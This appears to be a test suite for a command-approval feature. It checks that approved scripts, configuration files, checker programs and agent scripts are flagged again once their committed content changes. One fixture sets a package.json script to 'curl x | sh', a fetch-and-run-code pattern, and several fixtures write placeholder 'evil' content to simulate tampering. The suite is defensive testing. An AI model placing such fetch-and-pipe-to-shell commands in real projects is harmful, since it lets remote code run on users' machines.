import assert from "node:assert/strict";
import { rmSync } from "node:fs";
import path from "node:path";
import { SettingsSchema } from "../../../../../src/core/model/settings";
import {
  rememberCommands,
  unapprovedCommands,
} from "../../../../../src/node/consent/rememberedCommands";
import { approvalOf, codeOfRun } from "../../../../../src/node/engine/start/codeOfRun";
import { freeze } from "../../../../../src/node/engine/record/freezeInputs";
import { findGit } from "../../../../../src/node/git/git";
import { findProject } from "../../../../../src/node/project";
import { execFileSync } from "node:child_process";
import { rateLimiting, sampleRepository } from "../../../../cli/sampleRepository";
import { writeFiles } from "../../../../support/repository";
import { removeTemporaryFolders, temporaryFolder } from "../../../../support/temporaryFolder";

const scripts = { test: "npm run check && node scripts/t.mjs", check: "./check.sh" };

suite("the code of a run", () => {
  let root = "";
  let state = "";
  setup(() => {
    state = temporaryFolder();
    root = sampleRepository({
      ...rateLimiting,
      "package.json": JSON.stringify({ version: "1.0.0", scripts }),
      "scripts/t.mjs": "import '../src/a.js';\n",
      "check.sh": "#!/bin/sh\n",
      "src/a.js": "export {};\n",
      "eslint.config.js": "export default [];\n",
      "tests/conftest.py": "",
      "pyproject.toml": "[project]\nname = 'x'\n",
    });
  });
  teardown(removeTemporaryFolders);

  const env = () => ({ PATH: process.env["PATH"], HOME: state, XDG_STATE_HOME: state });

  async function read(more: object = {}, tests: string[] = ["npm test"]) {
    const bundle = {
      id: "ws-x",
      openspec_change: "rate-limiting",
      tasks: ["Do it"],
      files_scope: ["src/**"],
      acceptance_tests: tests,
    };
    const inputs = [freeze("workstreams/ws-x.json", JSON.stringify(bundle), rateLimiting)];
    const project = findProject(root);
    const git = await findGit(root);
    const { commit } = await git.head();
    const settings = SettingsSchema.parse(more);
    const request = { project, git, commit, settings, env: env(), inputs };
    const code = await codeOfRun(request);
    const open = unapprovedCommands(code, request).flatMap(({ command, changed }) =>
      changed === undefined ? command : `${command} changed: ${changed.join(", ")}`,
    );
    return { code, request, open, approval: approvalOf(code, request) };
  }

  function commit(files: Readonly<Record<string, string>>): void {
    writeFiles(root, files);
    const git = (...args: string[]) => execFileSync("git", args, { cwd: root, stdio: "pipe" });
    git("add", "-A");
    git("-c", "user.name=T", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", "Change");
  }

  async function approve(more: object = {}) {
    const { code, request } = await read(more);
    rememberCommands(code, request, 1);
  }

  test("a sandbox that the repository switches off is asked about, one that a person switches off is not", async () => {
    const shown = async () =>
      (await read({ sandbox: "off" })).code.map(({ command }) => command.replace(/,.*/, ""));
    assert.ok(!(await shown()).includes("sandbox: off"));
    commit({ ".workstreams.json": JSON.stringify({ sandbox: "off" }) });
    assert.ok((await shown()).includes("sandbox: off"));
    const { code } = await read({ sandbox: "required" });
    assert.ok(!code.some(({ command }) => command.startsWith("sandbox: off")));
  });

  test("commands, scripts that scripts call, files that they start, configuration and variables are shown", async () => {
    const { code } = await read({ env: ["TOKEN"] });
    const shown = code.map(({ kind = "command", command, content = [] }) => [
      ...[kind, command],
      ...content.map(({ name }) => name),
    ]);
    assert.deepEqual(shown, [
      [
        "command",
        "npm test",
        "check.sh",
        'package.json "check"',
        'package.json "test"',
        "scripts/t.mjs",
      ],
      ["configuration", "eslint.config.js", "eslint.config.js"],
      ["configuration", "tests/conftest.py", "tests/conftest.py"],
      ["variable", "TOKEN"],
    ]);
  });

  test("a yes holds as long as nothing of it changes, and then says what did", async () => {
    await approve();
    assert.deepEqual((await read()).open, []);
    const changes = [
      ["scripts/t.mjs", "evil\n", "npm test changed: scripts/t.mjs"],
      ["check.sh", "evil\n", "npm test changed: check.sh"],
      [
        "package.json",
        JSON.stringify({ scripts: { ...scripts, check: "curl x | sh" } }),
        'npm test changed: package.json "check"',
      ],
      ["eslint.config.js", "evil\n", "eslint.config.js changed: eslint.config.js"],
      ["tests/conftest.py", "evil\n", "tests/conftest.py changed: tests/conftest.py"],
      ["conftest.py", "evil\n", "conftest.py"],
      ["pyproject.toml", "[tool.mypy]\nplugins = ['evil']\n", "pyproject.toml"],
    ] as const;
    for (const [file, text, expected] of changes) {
      commit({ [file]: text });
      assert.deepEqual((await read()).open, [expected]);
      await approve();
    }
  });

  test("edits of source, versions and what is not started ask nothing", async () => {
    await approve();
    commit({
      "src/a.js": "export const a = 1;\n",
      "src/new.js": "",
      "README.md": "new\n",
      "package.json": JSON.stringify({ version: "2.0.0", scripts, dependencies: { x: "1" } }),
      "pyproject.toml": "[project]\nname = 'y'\n",
    });
    assert.deepEqual((await read()).open, []);
  });

  test("what is committed counts, also where the working tree shows something else", async () => {
    commit({ "scripts/t.mjs": "evil\n" });
    writeFiles(root, { "scripts/t.mjs": "import '../src/a.js';\n" });
    const shown = (await read()).approval;
    execFileSync("git", ["checkout", "-q", "scripts/t.mjs"], { cwd: root });
    assert.equal((await read()).approval, shown);
  });

  test("another repository at the same path is asked about anew", async () => {
    await approve();
    const copy = `${root}-copy`;
    execFileSync("cp", ["-r", root, copy]);
    rmSync(root, { recursive: true });
    execFileSync("mv", [copy, root]);
    assert.ok((await read()).open.includes("npm test"));
  });

  test("a program of a checker is bound to its content, and so is an agent's script", async () => {
    const more = { agent: "mine", agents: { mine: { command: ["node", "scripts/agent.mjs"] } } };
    commit({ "node_modules/.bin/eslint": "#!/bin/sh\n", "scripts/agent.mjs": "1\n" });
    execFileSync("chmod", ["+x", path.join(root, "node_modules/.bin/eslint")]);
    await approve(more);
    assert.deepEqual((await read(more)).open, []);
    commit({ "node_modules/.bin/eslint": "#!/bin/sh\nevil\n", "scripts/agent.mjs": "2\n" });
    const { open } = await read(more);
    assert.ok(
      open.some((each) => each.startsWith("eslint changed: node_modules/.bin/eslint")),
      open.join("\n"),
    );
    assert.ok(open.includes("node scripts/agent.mjs changed: scripts/agent.mjs"), open.join("\n"));
  });

  test("what was approved for another engine is the code, the settings and the inputs", async () => {
    const { approval } = await read();
    assert.equal((await read()).approval, approval);
    assert.notEqual((await read({ maxParallel: 2 })).approval, approval);
    assert.notEqual((await read({}, ["npm test", "npm test -- x"])).approval, approval);
    commit({ "check.sh": "evil\n" });
    assert.notEqual((await read()).approval, approval);
  });
});
